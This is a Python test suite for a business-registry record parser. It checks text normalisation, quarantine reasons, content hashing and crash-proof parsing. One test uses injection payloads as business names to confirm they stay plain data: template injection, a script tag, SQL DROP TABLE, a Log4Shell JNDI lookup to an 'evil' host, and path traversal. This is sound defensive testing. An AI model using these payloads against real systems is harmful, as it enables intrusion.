"""One registry record: normalisation, every quarantine reason, hostile content, the content hash,
and property tests that `parse_record` never raises and only ever stores clean text."""

from __future__ import annotations

import copy
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ifn_campaign.registry.media import url_refusal
from ifn_campaign.registry.record import (
    SOURCE_ERRORS,
    UNEXPECTED,
    MemberRecord,
    parse_record,
)
from tests.support.records import (
    BASE,
    DROP,
    FULL,
    TEXT_FIELDS,
    _inject,
    reasons,
    valid,
    with_changes,
)

FULL_NORMALISED: dict[str, Any] = {
    "id": "ifn-0042",
    "business_name": "Kafé Sepatu Jaya",
    "actor_types": ["brand", "producer"],
    "categories": ["leather_shoes", "sneakers"],
    "materials": ["cow_leather", "rubber"],
    "description_id": "Baris satu\ndengan spasi.\n\nParagraf dua.",
    "description_en": "Line one.\n\nLine two.",
    "city": "Bandung",
    "province": "Jawa Barat",
    "sentra": "Cibaduyut",
    "year_founded": 1998,
    "employees": 25,
    "capacity_pairs_per_month": 3000,
    "export_markets": ["MY", "SG", "JP"],
    "certifications": [
        {"scheme": "SNI 8877:2023", "number": "123/ABC"},
        {"scheme": "ISO 9001", "number": None},
    ],
    "contact": {
        "email": "info@sepatu-jaya.co.id",
        "phone": "+6281234567890",
        "whatsapp": "+6281234567890",
        "website": "https://sepatujaya.co.id/",
    },
    "socials": {
        "instagram": "sepatujaya",
        "facebook": "sepatujaya.id",
        "youtube": "Sepatu-Jaya",
        "tiktok": "sepatu_jaya",
        "marketplaces": ["https://tokopedia.com/sepatujaya"],
    },
    "owner_name": "Budi Santoso",
    "logo_url": "https://cdn.example.org/logo.png",
    "photos": [
        {"url": "https://cdn.example.org/1.jpg", "alt": "Sepatu kulit hitam"},
        {"url": "https://cdn.example.org/2.jpg", "alt": None},
    ],
    "consent": {
        "granted_at": "2024-03-01T02:00:00Z",
        "text_version": "v2",
        "channels": ["instagram", "youtube"],
        "fields_allowed": ["owner_name", "phone"],
        "withdrawn_at": None,
    },
    "status": "active",
    "updated_at": "2024-05-01T03:00:00Z",
}


# --- normalisation -------------------------------------------------------------------------


def test_full_record_normalises_exactly() -> None:
    record = valid(FULL)
    assert record.model_dump(mode="json") == FULL_NORMALISED
    assert record.updated_at == datetime(2024, 5, 1, 3, tzinfo=UTC)
    assert record.updated_at.utcoffset() is not None


def test_minimal_record_gets_empty_defaults() -> None:
    record = valid(BASE)
    assert record.categories == [] and record.photos == [] and record.certifications == []
    assert record.contact.email is None and record.socials.instagram is None
    assert record.consent.channels == [] and record.consent.withdrawn_at is None


def test_profile_has_consent_flattened_and_no_updated_at() -> None:
    profile = valid(FULL).profile()
    assert "updated_at" not in profile and "consent" not in profile
    assert profile["consent_channels"] == ["instagram", "youtube"]
    assert profile["consent_granted_at"] == datetime(2024, 3, 1, 2, tzinfo=UTC)
    assert profile["consent_fields_allowed"] == ["owner_name", "phone"]


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Cafe\u0301", "Café"),  # NFC
        ("a\x00b\x1fc\x7fd\x85e", "abcde"),  # C0 and C1 controls
        ("e\x00\u0301", "é"),  # a control between letter and accent: still NFC afterwards
        ("\u202eevil\u202c \u2066x\u2069 \u200fy\u200e", "evil x y"),  # bidi overrides, marks
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("  a \t\u00a0\u3000\u2003 b  ", "a b"),  # any whitespace collapses
        ("line\none\r\ntwo\u2028three", "line one two three"),
        ("👨\u200d👩\u200d👧 keluarga", "👨\u200d👩\u200d👧 keluarga"),  # ZWJ sequences survive
    ],
)
def test_single_line_text_is_cleaned(raw: str, expected: str) -> None:
    assert valid(with_changes(BASE, business_name=raw)).business_name == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Satu\nDua", "Satu\nDua"),
        ("Satu\r\nDua\rTiga", "Satu\nDua\nTiga"),
        ("  Satu  \n\n\n\n\n  Dua  ", "Satu\n\nDua"),
        ("Satu\n \t \nDua", "Satu\n\nDua"),
        ("Satu\u2029Dua", "Satu\n\nDua"),
        ("\n\nSatu\x00\u202e\n\n", "Satu"),
    ],
)
def test_descriptions_keep_paragraphs(raw: str, expected: str) -> None:
    record = valid(with_changes(BASE, description_id=raw, description_en=raw))
    assert record.description_id == expected
    assert record.description_en == expected


@pytest.mark.parametrize(
    ("field", "raw", "expected"),
    [
        ("materials", ["Cow Leather"], ["cow_leather"]),
        ("materials", ["cow-leather", "COW LEATHER", "cow_leather"], ["cow_leather"]),
        ("actor_types", ["Brand"], ["brand"]),
        ("actor_types", ["brand", "Supplier", "BRAND"], ["brand", "supplier"]),
        ("categories", ["Safety Shoes", "safety_shoes", "Boots"], ["safety_shoes", "boots"]),
        ("export_markets", ["id", "ID", " sg "], ["ID", "SG"]),
        ("categories", None, []),
        ("materials", [], []),
    ],
)
def test_slugs_and_deduplicated_lists(field: str, raw: Any, expected: list[str]) -> None:
    assert getattr(valid(with_changes(BASE, **{field: raw})), field) == expected


@pytest.mark.parametrize(
    "phone",
    [
        "0812 3456 7890",
        "+62 812-3456-7890",
        "+6281234567890",
        "62 812 3456 7890",
        "(0812) 3456-7890",
    ],
)
def test_phone_numbers_become_e164(phone: str) -> None:
    record = valid(with_changes(BASE, contact__phone=phone, contact__whatsapp=phone))
    assert record.contact.phone == "+6281234567890"
    assert record.contact.whatsapp == "+6281234567890"


@pytest.mark.parametrize(
    ("email", "expected"),
    [
        ("info@sepatujaya.co.id", "info@sepatujaya.co.id"),
        ("  Info@SepatuJaya.CO.ID ", "info@sepatujaya.co.id"),
        ("budi.santoso+ifn@gmail.com", "budi.santoso+ifn@gmail.com"),
    ],
)
def test_emails_are_normalised(email: str, expected: str) -> None:
    assert valid(with_changes(BASE, contact__email=email)).contact.email == expected


@pytest.mark.parametrize(
    "value",
    [
        "sepatujaya",
        "@sepatujaya",
        "https://www.instagram.com/sepatujaya/",
        "https://instagram.com/sepatujaya?igsh=abc123",
        "instagram.com/sepatujaya",
        "http://m.instagram.com/@sepatujaya",
    ],
)
def test_instagram_handle_from_handle_or_url(value: str) -> None:
    assert valid(with_changes(BASE, socials__instagram=value)).socials.instagram == "sepatujaya"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("youtube", "https://www.youtube.com/channel/UC1234567890"),  # not the handle "channel"
        ("instagram", "https://www.instagram.com/p/Cxyz123/"),  # a post, not a profile
        ("facebook", "https://www.facebook.com/profile.php?id=100012345"),
        ("instagram", "https://www.facebook.com/sepatujaya"),  # another platform's link
        ("instagram", "https://evilinstagram.com/sepatujaya"),
        ("tiktok", "sepatu jaya"),
    ],
)
def test_links_that_do_not_name_a_handle_are_left_out(field: str, value: str) -> None:
    record = valid(with_changes(BASE, socials={field: value}))
    assert getattr(record.socials, field) is None
    assert any(n.startswith(f"socials.{field}:") and "left out" in n for n in record.notes)


def test_consent_channels_are_normalised() -> None:
    record = valid(with_changes(BASE, consent={"channels": ["Instagram", " YouTube ", "facebook"]}))
    assert record.consent.channels == ["instagram", "youtube", "facebook"]


def test_times_are_stored_in_utc() -> None:
    record = valid(with_changes(BASE, updated_at="2024-05-01T07:00:00+07:00"))
    assert record.updated_at == datetime(2024, 5, 1, 0, tzinfo=UTC)
    assert record.updated_at.tzinfo is UTC


# --- quarantine reasons -----------------------------------------------------------------------


QUARANTINE_CASES: list[tuple[str, dict[str, Any], str]] = [
    ("missing id", {"id": DROP}, "id"),
    ("missing business_name", {"business_name": DROP}, "business_name"),
    ("missing description_id", {"description_id": DROP}, "description_id"),
    ("missing actor_types", {"actor_types": DROP}, "actor_types"),
    ("missing status", {"status": DROP}, "status"),
    ("missing updated_at", {"updated_at": DROP}, "updated_at"),
    ("empty business_name", {"business_name": ""}, "business_name"),
    ("blank business_name", {"business_name": " \t\n\u00a0 "}, "business_name"),
    ("control-only business_name", {"business_name": "\x00\u202e\u200b"}, "business_name"),
    ("null business_name", {"business_name": None}, "business_name"),
    ("empty actor_types", {"actor_types": []}, "actor_types"),
    ("unknown actor type", {"actor_types": ["brand", "wholesaler"]}, "actor_types"),
    ("unknown category", {"categories": ["sneakers", "handbags"]}, "categories"),
    ("unknown status", {"status": "paused"}, "status"),
    ("updated_at not a date", {"updated_at": "not-a-date"}, "updated_at"),
    ("naive updated_at", {"updated_at": "2024-05-01T10:00:00"}, "updated_at"),
    ("naive consent time", {"consent": {"granted_at": "2024-05-01 10:00"}}, "consent.granted_at"),
    ("year out of range", {"updated_at": "0001-01-01T00:00:00+14:00"}, "updated_at"),
    ("year_founded in the future", {"year_founded": datetime.now(UTC).year + 1}, "year_founded"),
    ("year_founded before 1800", {"year_founded": 1799}, "year_founded"),
    ("negative employees", {"employees": -1}, "employees"),
    ("negative capacity", {"capacity_pairs_per_month": -5}, "capacity_pairs_per_month"),
    ("country XX1", {"export_markets": ["MY", "XX1"]}, "export_markets"),
    ("country ZZ", {"export_markets": ["ZZ"]}, "export_markets"),
    ("country ß (upper-cases to SS)", {"export_markets": ["ß"]}, "export_markets"),
    # Bad media URLs, contact details, handles and an 11th photo are data, not reasons:
    # tests/registry/test_record_strict.py
    ("unknown consent channel", {"consent": {"channels": ["tiktok"]}}, "consent.channels"),
    ("id with slash", {"id": "a/b"}, "id"),
    ("id with backslash", {"id": "a\\b"}, "id"),
    ("id path traversal", {"id": "../etc/passwd"}, "id"),
    ("id dot-dot", {"id": ".."}, "id"),
    ("id hidden file", {"id": ".env"}, "id"),
    ("id too long", {"id": "a" * 65}, "id"),
    ("id number", {"id": 42}, "id"),
    ("contact not an object", {"contact": "0812 3456 7890"}, "contact"),
    ("actor_types not a list", {"actor_types": "brand"}, "actor_types"),
]


@pytest.mark.parametrize(
    ("changes", "field"),
    [pytest.param(changes, field, id=name) for name, changes, field in QUARANTINE_CASES],
)
def test_quarantine_reason_names_the_field(changes: dict[str, Any], field: str) -> None:
    found = reasons(with_changes(BASE, **changes))
    assert found, "a quarantine always has a reason"
    assert all(isinstance(r, str) and r for r in found)
    assert any(r.startswith(f"{field}:") or r.startswith(f"{field}.") for r in found), found


def test_missing_field_reason_says_missing() -> None:
    assert reasons(with_changes(BASE, status=DROP)) == ["status: required field is missing"]


def test_blank_required_text_says_empty() -> None:
    assert reasons(with_changes(BASE, business_name="   ")) == [
        "business_name: required field is empty"
    ]


@pytest.mark.parametrize("raw", [[], [BASE], "a record", None, 42, 4.2, True])
def test_not_an_object_gives_one_reason(raw: Any) -> None:
    found = reasons(raw)
    assert len(found) == 1
    assert found[0].startswith("record: expected a JSON object")


def test_every_problem_is_reported_not_just_the_first() -> None:
    raw = with_changes(
        BASE,
        business_name=DROP,
        actor_types=["wholesaler"],
        categories=["handbags"],
        year_founded=1700,
        employees=-3,
        export_markets=["ZZ"],
        contact={"email": "nope", "phone": "x"},
        updated_at="not-a-date",
    )
    fields = {r.split(":", 1)[0].split(".")[0] for r in reasons(raw)}
    assert {
        "business_name",
        "actor_types",
        "categories",
        "year_founded",
        "employees",
        "export_markets",
        "contact",
        "updated_at",
    } <= fields
    found = reasons(raw)
    assert any(r.startswith("contact.email:") for r in found)
    assert any(r.startswith("contact.phone:") for r in found)


def test_source_errors_quarantine_an_otherwise_valid_record() -> None:
    assert reasons(with_changes(BASE, **{SOURCE_ERRORS: ["row: 2 more fields than the header"]}))
    assert reasons(with_changes(BASE, **{SOURCE_ERRORS: "row: broken"})) == ["row: broken"]


def test_a_crashing_validator_quarantines_instead_of_raising(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def explode(value: str, region: str) -> None:
        raise RuntimeError("library bug")

    monkeypatch.setattr("ifn_campaign.registry.record.phonenumbers.parse", explode)
    assert reasons(with_changes(BASE, contact__phone="0812 3456 7890")) == [
        f"{UNEXPECTED}: RuntimeError: library bug"
    ]


@pytest.mark.parametrize("junk", [5, None, {"a": 1}, [None, 3], []])
def test_malformed_source_errors_never_raise(junk: Any) -> None:
    assert isinstance(parse_record(with_changes(BASE, **{SOURCE_ERRORS: junk})), MemberRecord)


# --- hostile content stays data ---------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "Sepatu {{ config }} Jaya",
        "{% for x in range(10**9) %}{% endfor %}",
        "<script>alert(1)</script>",
        "'; DROP TABLE member; --",
        "${jndi:ldap://evil/a}",
        "../../etc/passwd",
        "鞋业 Jaya 制鞋厂",  # Chinese
        "أحذية الجاوية",  # Arabic
        "ꦱꦼꦥꦠꦸ ꦗꦪ",  # Javanese script
        "Sepatu 👟 Jaya 🇮🇩",
        "👩🏽\u200d🔧 Bengkel Sepatu",
    ],
)
def test_hostile_or_foreign_names_stay_plain_data(name: str) -> None:
    record = valid(with_changes(BASE, business_name=name, description_id=name))
    assert record.business_name == name
    assert record.description_id == name
    assert type(record.business_name) is str


# --- content hash -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "changes",
    [
        {"updated_at": "2030-01-01T00:00:00Z"},
        {"business_name": "  Kafe\u0301   Sepatu\u202e Jaya\x07"},  # the same removed
        {"actor_types": ["BRAND", "Producer"]},
        {"categories": ["Leather Shoes", "SNEAKERS"]},
        {"export_markets": ["my", "sg", "jp"]},
        {"contact__phone": "+62 812-3456-7890", "contact__whatsapp": "081234567890"},
        {"contact__email": "INFO@sepatu-jaya.co.id"},
        {"socials__instagram": "@sepatujaya"},
        {"consent__granted_at": "2024-03-01T02:00:00Z"},
        {"consent__channels": ["instagram", "YouTube"]},
        {"status": "ACTIVE"},
        {"description_id": "Baris satu\ndengan spasi.\u200b\n\nParagraf dua."},
        {"unknown_field": "something else"},
    ],
    ids=lambda changes: ",".join(changes),
)
def test_content_hash_ignores_formatting_and_updated_at(changes: dict[str, Any]) -> None:
    assert valid(with_changes(FULL, **changes)).content_hash() == valid(FULL).content_hash()


@pytest.mark.parametrize(
    "changes",
    [
        {"business_name": "Sepatu Jaya Baru"},
        {"description_id": "Deskripsi lain."},
        {"description_en": None},
        {"actor_types": ["brand"]},
        {"categories": ["boots"]},
        {"materials": ["cow_leather"]},
        {"city": "Surabaya"},
        {"year_founded": 1999},
        {"employees": 26},
        {"export_markets": ["MY"]},
        {"certifications": []},
        {"contact__phone": "0813 3456 7890"},
        {"socials__instagram": "sepatujaya.official"},
        {"owner_name": "Siti Aminah"},
        {"logo_url": "https://cdn.example.org/logo2.png"},
        {"photos": [{"url": "https://cdn.example.org/1.jpg", "alt": "Lain"}]},
        {"consent__channels": ["instagram"]},
        {"consent__fields_allowed": []},
        {"consent__text_version": "v3"},
        {"consent__withdrawn_at": "2024-06-01T00:00:00Z"},
        {"status": "suspended"},
    ],
    ids=lambda changes: ",".join(changes),
)
def test_content_hash_changes_with_any_profile_field(changes: dict[str, Any]) -> None:
    assert valid(with_changes(FULL, **changes)).content_hash() != valid(FULL).content_hash()


def test_content_hash_is_stable_hex() -> None:
    digest = valid(FULL).content_hash()
    assert digest == valid(copy.deepcopy(FULL)).content_hash()
    assert len(digest) == 64 and int(digest, 16) >= 0


# --- properties ---------------------------------------------------------------------------------

# Text that is likely to hit the interesting cases: controls, bidi, combining marks, odd spaces.
TRICKY = st.lists(
    st.sampled_from(
        list("\x00\x07\t\n\r\x0b\x1f\x7f\x85 \u00a0\u2028\u2029\u202e\u2066\u200b\u200d\ufeff")
        + list("e\u0301\u0308\u0327A1@.:/_-#?%")
        + ["ß", "ﬁ", "鞋", "ꦱ", "👟", "ǅ", "\u1100", "\u1161", "\u2000"]
        # a character that goes between a letter and its accent (or two jamo) and is stripped
        + ["e\x00\u0301", "A\u202e\u030a", "\u1100\u200b\u1161", "o\ufeff\u0308"]
    ),
    max_size=30,
).map("".join)
ANY_TEXT = st.one_of(st.text(max_size=60), TRICKY)
JSON_LIKE = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | ANY_TEXT,
    lambda children: (
        st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=15), children, max_size=5)
    ),
    max_leaves=12,
)
JSON_SMALL = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | ANY_TEXT,
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(), children, max_size=3)
    ),
    max_leaves=4,
)
PROPERTY_SETTINGS = settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)


def _assert_outcome(parsed: Any) -> None:
    """A record, or a non-empty list of non-empty reasons none of which is a validator crash."""
    if isinstance(parsed, MemberRecord):
        return
    assert isinstance(parsed, list) and parsed
    assert all(isinstance(r, str) and r for r in parsed)
    assert not any(r.startswith(UNEXPECTED) for r in parsed), parsed


@PROPERTY_SETTINGS
@given(JSON_LIKE)
def test_parse_record_never_raises_on_any_json(raw: Any) -> None:
    _assert_outcome(parse_record(raw))


@PROPERTY_SETTINGS
@given(st.dictionaries(st.sampled_from(sorted(FULL)), JSON_SMALL, min_size=1, max_size=4))
def test_parse_record_never_raises_on_wrong_field_types(changes: dict[str, Any]) -> None:
    _assert_outcome(parse_record(FULL | changes))


MULTILINE = {"description_id", "description_en"}


def _strings(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
    """Every string in a dumped record, with the top-level field it belongs to."""
    if isinstance(value, str):
        yield key, value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(v, key or k)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v, key)


@pytest.mark.parametrize("field", TEXT_FIELDS)
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=ANY_TEXT, placement=st.sampled_from(["replace", "prefix", "suffix"]))
def test_injected_text_is_stored_clean(field: str, text: str, placement: str) -> None:
    raw = copy.deepcopy(FULL)
    _inject(raw, field, text, placement)
    parsed = parse_record(raw)
    _assert_outcome(parsed)
    if isinstance(parsed, MemberRecord):
        dump = parsed.model_dump(mode="json")
        dump.pop("logo_url")  # media URLs are kept as sent: the fetcher refuses a bad one
        for photo in dump["photos"]:
            photo.pop("url")
        # links we show are kept as sent too (never rewritten, not even to NFC), but only when
        # they pass the media URL rules: no control, blank or invisible character
        links = [dump["contact"].pop("website", None), *dump["socials"].pop("marketplaces", [])]
        for link in filter(None, links):
            assert url_refusal(link) is None, link
            assert not any(ord(c) < 0x20 or c.isspace() for c in link), link
        for top, value in _strings(dump):
            newline_ok = top in MULTILINE
            assert not any(ord(c) < 0x20 and not (c == "\n" and newline_ok) for c in value), (
                top,
                value,
            )
            assert unicodedata.is_normalized("NFC", value), (top, value)
            assert value == value.strip(), (top, value)
